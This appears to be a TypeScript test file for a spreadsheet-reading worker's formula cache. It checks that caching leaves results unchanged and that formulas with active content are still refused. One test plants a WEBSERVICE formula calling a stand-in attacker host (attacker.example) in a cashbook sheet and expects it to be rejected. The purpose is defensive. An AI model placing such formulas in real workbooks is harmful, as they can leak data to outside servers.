// The check worker's memory of formula texts (formula-memory.ts): a workbook read with it reads exactly as without it,
// and a formula with active content is refused however often the same template was read before.
import { CB_SHEET } from '@portfund/shared-rules';
import { CASHBOOK_EXAMPLE } from '@portfund/shared-rules/src/testing/seed-examples';
import { type FillValues } from '@portfund/templates';
import { cachedTemplate } from '../../../../test/support/cached-template';
import { editSheetXml, sheetXml } from '../testing/edit-xlsx';
import { rememberedFormula, rememberFormulas } from './formula-memory';
import { readWorkbook } from './read-workbook';
import { ReadLimitError } from './sheet';

let cashbook: Buffer;

beforeAll(async () => {
  cashbook = await cachedTemplate('cashbook', { fill: CASHBOOK_EXAMPLE as FillValues });
}, 60_000);

afterEach(() => rememberFormulas(false));

/** The ledger sheet's first stored formula, as its XML text. */
const firstFormulaXml = (bytes: Buffer): string => /<f>([^<]+)<\/f>/.exec(sheetXml(bytes, CB_SHEET))?.[1] ?? '';

describe('the formula memory', () => {
  it('reads a workbook exactly as without it, the first time and every time after', async () => {
    const without = await readWorkbook(cashbook);
    rememberFormulas(true);
    const first = await readWorkbook(cashbook);
    const again = await readWorkbook(cashbook);
    expect(first).toEqual(without);
    expect(again).toEqual(without);
    expect(rememberedFormula(firstFormulaXml(cashbook))).toBeDefined();
  });

  it('remembers nothing when off', async () => {
    await readWorkbook(cashbook);
    expect(rememberedFormula(firstFormulaXml(cashbook))).toBeUndefined();
  });

  it('still refuses a formula with active content in a cell whose template formula it remembers', async () => {
    rememberFormulas(true);
    await readWorkbook(cashbook);
    const original = firstFormulaXml(cashbook);
    const hostile = editSheetXml(cashbook, CB_SHEET, (xml) => xml.replace(`<f>${original}</f>`, '<f>WEBSERVICE(&quot;http://attacker.example/&quot;)</f>'));
    for (let i = 0; i < 2; i += 1) {
      const refused = await readWorkbook(hostile).catch((e: unknown) => e);
      expect(refused).toBeInstanceOf(ReadLimitError);
      expect((refused as ReadLimitError).reason).toEqual(expect.objectContaining({ reason: 'reader.active_formula', sheetName: CB_SHEET }));
    }
    // and the template's own formulas still read, from memory
    await expect(readWorkbook(cashbook)).resolves.toEqual(await readWorkbook(cashbook));
  });
});
